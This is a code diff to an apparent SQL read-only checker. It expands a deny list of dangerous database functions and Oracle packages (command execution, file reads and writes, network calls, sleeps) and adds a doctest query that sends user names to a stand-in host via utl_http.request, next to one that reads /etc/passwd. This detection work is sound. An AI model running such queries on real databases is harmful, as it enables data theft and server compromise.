@@ -117,6 +117,8 @@ SIDE_EFFECT_FUNCTIONS = frozenset(
         # SQLite: loads and runs a shared library; the CLI's file writer
         "load_extension",
         "writefile",
+        "readfile",
+        "fts3_tokenizer",
         # PostgreSQL: large objects to and from the server's files, server files, settings,
         # sequences, other sessions, remote statements, notifications
         "lo_import",
@@ -139,17 +141,62 @@ SIDE_EFFECT_FUNCTIONS = frozenset(
         "pg_notify",
         "pg_logical_emit_message",
         "dblink_exec",
+        # PostgreSQL: more server files (adminpack, the log / WAL / temporary folders), large-object
+        # writes, advisory locks, WAL and recovery control, SQL text run by the XML functions, sleeps
+        "pg_ls_logdir",
+        "pg_ls_waldir",
+        "pg_ls_tmpdir",
+        "pg_ls_archive_statusdir",
+        "pg_logdir_ls",
+        "pg_file_write",
+        "pg_file_rename",
+        "pg_file_unlink",
+        "pg_file_sync",
+        "lowrite",
+        "lo_truncate",
+        "pg_advisory_lock",
+        "pg_advisory_xact_lock",
+        "pg_try_advisory_lock",
+        "pg_try_advisory_xact_lock",
+        "pg_switch_wal",
+        "pg_create_restore_point",
+        "pg_promote",
+        "query_to_xml",
+        "query_to_xmlschema",
+        "query_to_xml_and_xmlschema",
+        "pg_sleep",
+        "pg_sleep_for",
+        "pg_sleep_until",
         # MySQL: server files, user-defined command execution, named locks
         "load_file",
         "sys_exec",
         "sys_eval",
         "get_lock",
         "release_lock",
+        "release_all_locks",
+        "sleep",
+        "benchmark",
         # SQL Server: shell commands, other servers' data
         "xp_cmdshell",
+        "xp_dirtree",
+        "xp_fileexist",
+        "xp_regread",
+        "xp_regwrite",
+        "sp_oacreate",
+        "sp_oamethod",
         "openrowset",
         "opendatasource",
         "openquery",
+        # BigQuery: a query run on another database (Cloud SQL); Oracle: a URL read as a document
+        "external_query",
+        "httpuritype",
+        # Snowflake: sessions and queries stopped, waits, e-mail sent
+        "system$wait",
+        "system$cancel_query",
+        "system$cancel_all_queries",
+        "system$abort_session",
+        "system$abort_transaction",
+        "system$send_email",
         # PostgreSQL's dblink: queries run on another server, by any of the module's calls
         "dblink",
         "dblink_connect",
@@ -161,7 +208,32 @@ SIDE_EFFECT_FUNCTIONS = frozenset(
     }
 )
 """Functions (lower case) a query may call that change the database or the server, read its
-files or run code: a SELECT that calls one is no read-only answer (:func:`embedded_writes`)."""
+files, reach other servers, run code or hold the server (sleeps, benchmarks, locks: the probes of
+an injection): a SELECT that calls one is no read-only answer (:func:`embedded_writes`)."""
+
+SIDE_EFFECT_PACKAGES = frozenset(
+    {
+        # Oracle's packages that reach the network, the server's files, other sessions, Java, or
+        # run SQL text: any of their calls (``utl_http.request(…)``, ``sys.dbms_xmlgen.getxml(…)``)
+        "utl_http",
+        "utl_inaddr",
+        "utl_tcp",
+        "utl_smtp",
+        "utl_mail",
+        "utl_file",
+        "dbms_ldap",
+        "dbms_pipe",
+        "dbms_lock",
+        "dbms_xmlgen",
+        "dbms_xmlquery",
+        "dbms_sql",
+        "dbms_java",
+        "dbms_scheduler",
+        "dbms_aq",
+        "dbms_export_extension",
+    }
+)
+"""Packages (lower case) whose every function counts as one of :data:`SIDE_EFFECT_FUNCTIONS`."""
 
 
 def _may_write(text: str, dialect: str) -> bool:
@@ -172,7 +244,7 @@ def _may_write(text: str, dialect: str) -> bool:
     if any(word in upper for word in _write_words(dialect)):
         return True
     lower = text.lower()
-    return any(name in lower for name in SIDE_EFFECT_FUNCTIONS)
+    return any(name in lower for name in SIDE_EFFECT_FUNCTIONS) or any(name in lower for name in SIDE_EFFECT_PACKAGES)
 
 
 INTO_FILE_KINDS = {"OUTFILE": "SELECT INTO OUTFILE", "DUMPFILE": "SELECT INTO DUMPFILE"}
@@ -307,6 +379,8 @@ def embedded_writes(query: exp.Expr) -> list[str]:
     ['DELETE (inside the query)']
     >>> embedded_writes(sqlglot.parse_one("SELECT name, pg_read_file('/etc/passwd') FROM users", read="postgres"))
     ['PG_READ_FILE() (inside the query)']
+    >>> embedded_writes(sqlglot.parse_one("SELECT utl_http.request('http://x.example/' || name) FROM users", read="oracle"))
+    ['UTL_HTTP.REQUEST() (inside the query)']
     """
     writes: list[str] = []
     into: list[str] = []
@@ -317,8 +391,11 @@ def embedded_writes(query: exp.Expr) -> list[str]:
             into.append("SELECT INTO")
         elif isinstance(node, exp.Func):
             name = node.name if isinstance(node, exp.Anonymous) else node.sql_name()
+            package = node.parent.this.name if isinstance(node.parent, exp.Dot) and node.arg_key == "expression" else ""
             if name.lower() in SIDE_EFFECT_FUNCTIONS:
                 writes.append(f"{name.upper()}() (inside the query)")
+            elif package.lower() in SIDE_EFFECT_PACKAGES:
+                writes.append(f"{package.upper()}.{name.upper()}() (inside the query)")
     return writes + into
 
 
